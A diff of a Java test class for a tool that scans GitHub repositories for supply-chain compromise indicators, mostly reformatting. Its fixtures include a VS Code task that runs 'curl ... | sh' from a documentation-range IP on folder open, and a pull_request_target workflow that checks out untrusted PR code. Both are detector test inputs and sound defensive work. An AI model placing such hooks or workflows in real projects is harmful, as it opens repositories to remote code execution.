@@ -68,11 +68,11 @@ class SweepCommandTest {
     /** A lockfile of npm with a package that a campaign is known for at a version. */
     private static byte[] lock(String version) {
         return bytes("""
-                {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
-                  "": {"name": "x", "version": "1.0.0", "dependencies": {"a": "^1.0.0"}},
-                  "node_modules/a": {"version": "1.0.0", "dependencies": {"debug": "^4.0.0"}},
-                  "node_modules/debug": {"version": "%s"}}}
-                """.formatted(version));
+            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
+              "": {"name": "x", "version": "1.0.0", "dependencies": {"a": "^1.0.0"}},
+              "node_modules/a": {"version": "1.0.0", "dependencies": {"debug": "^4.0.0"}},
+              "node_modules/debug": {"version": "%s"}}}
+            """.formatted(version));
     }
 
     /** Each as {@code target/path:line rule owners}. */
@@ -128,7 +128,8 @@ class SweepCommandTest {
         assertThat(found(report))
                 .containsExactly(
                         "github:acme/web@main/app/package-lock.json:4 indicator/malicious-package @acme/web",
-                        "github:acme/web@main/lib/package-lock.json:4 indicator/malicious-package @acme/lib alice@example.org");
+                        "github:acme/web@main/lib/package-lock.json:4 indicator/malicious-package @acme/lib"
+                                + " alice@example.org");
         assertThat(report.json().at("/findings/0/evidence/path").stringValue()).isEqualTo("a@1.0.0");
         assertThat(report.gaps()).isEmpty();
         assertThat(report.coverage().at("/notes").toString()).contains("\":3}"); // a text, a script and the owners
@@ -295,12 +296,15 @@ class SweepCommandTest {
                         "github:acme/web@main [\"@acme/libraries\"]",
                         "github:acme/web@main [\"@acme/web\"]");
         assertThat(totals(report))
-                .containsExactly("@acme/libraries 1 in 1", "@acme/platform 2 in 2", "@acme/web 2 in 2", "no team 1 in 1");
+                .containsExactly(
+                        "@acme/libraries 1 in 1", "@acme/platform 2 in 2", "@acme/web 2 in 2", "no team 1 in 1");
         server.forget();
         Report again = sweep("--group-by", "team", "github:acme");
         assertThat(asked()).containsExactly("query"); // with its teams
         assertThat(again.lasting()).isEqualTo(report.lasting());
-        assertThat(sweep("--group-by", "team", "--rematch", "github:acme").json().get("groups"))
+        assertThat(sweep("--group-by", "team", "--rematch", "github:acme")
+                        .json()
+                        .get("groups"))
                 .isEqualTo(report.json().get("groups"));
         Ran text = run("--group-by", "team", "github:acme");
         assertThat(text.out().lines())
@@ -358,19 +362,19 @@ class SweepCommandTest {
         server.repository("acme/near").described("Notes on Shai-Hulud").commit(Map.of("README.md", bytes("x")));
         server.repository("acme/web")
                 .commit(Map.of(".github/workflows/pr.yml", bytes("""
-                                on: pull_request_target
-                                jobs:
-                                  test:
-                                    runs-on: ubuntu-latest
-                                    steps:
-                                      - uses: actions/checkout@v4
-                                        with:
-                                          ref: ${{ github.event.pull_request.head.sha }}
-                                      - run: npm ci && npm test
-                                """), ".vscode/tasks.json", bytes("""
-                                {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",
-                                  "command": "curl -s https://198.51.100.7/a | sh", "runOptions": {"runOn": "folderOpen"}}]}
-                                """)));
+                    on: pull_request_target
+                    jobs:
+                      test:
+                        runs-on: ubuntu-latest
+                        steps:
+                          - uses: actions/checkout@v4
+                            with:
+                              ref: ${{ github.event.pull_request.head.sha }}
+                          - run: npm ci && npm test
+                    """), ".vscode/tasks.json", bytes("""
+                        {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",
+                          "command": "curl -s https://198.51.100.7/a | sh", "runOptions": {"runOn": "folderOpen"}}]}
+                        """)));
         Report report = sweep("--branches", "all", "github:acme");
         assertThat(found(report))
                 .extracting(each -> each.replace(" no owner", ""))
@@ -428,11 +432,11 @@ class SweepCommandTest {
                 .commit(Map.of(
                         "vendored#", bytes("0123456789012345678901234567890123456789"), "package.json@", bytes("x")));
         server.repository("acme/f-lfs")
-                .commit(
-                        Map.of(
-                                "yarn.lock",
-                                bytes(
-                                        "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n")));
+                .commit(Map.of(
+                        "yarn.lock",
+                        bytes("version https://git-lfs.github.com/spec/v1\n"
+                                + "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
+                                + "size 12345\n")));
         FakeRepository pushed = server.repository("acme/g-pushed").commit(Map.of("go.mod", bytes("module x\n")));
         pushed.loseObjects();
         server.repository("acme/h-broken").commit(Map.of("package-lock.json", bytes("{\"packages\": {")));
